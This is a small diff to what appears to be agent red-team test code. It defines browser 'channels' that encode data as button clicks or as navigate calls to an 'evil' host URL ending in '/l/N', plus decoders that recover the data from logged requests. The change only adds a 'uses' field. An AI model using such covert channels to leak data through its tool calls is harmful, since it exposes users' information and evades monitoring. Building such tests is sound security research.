@@ -16,7 +16,7 @@ const selected =
 /** Uses of the page `/keys`, which reports every event by a GET of `/l/NUMBER`. */
 export const browsers: Channel[] = [
   {
-    ...{ name: "browser: clicks on buttons", width: 4, symbols: 14 },
+    ...{ name: "browser: clicks on buttons", uses: "letters", width: 4, symbols: 14 },
     send: selected("browser_click", (n) => `#b${n}`),
     decode: (seen) => inOrder(seen, /^\/l\/(\d+)$/),
   },
@@ -27,7 +27,7 @@ export const browsers: Channel[] = [
     decode: (seen) => inOrder(seen, /^\/far\/(\d+)/).map((n) => n % 16),
   },
   {
-    ...{ name: "browser: opens named links", width: 4, symbols: 14 },
+    ...{ name: "browser: opens named links", uses: "letters", width: 4, symbols: 14 },
     send: (symbols, at) => [
       ...opened(at),
       ...symbols.map((n) => [call("browser_navigate", { url: `${at.evil}/l/${n}` })]),
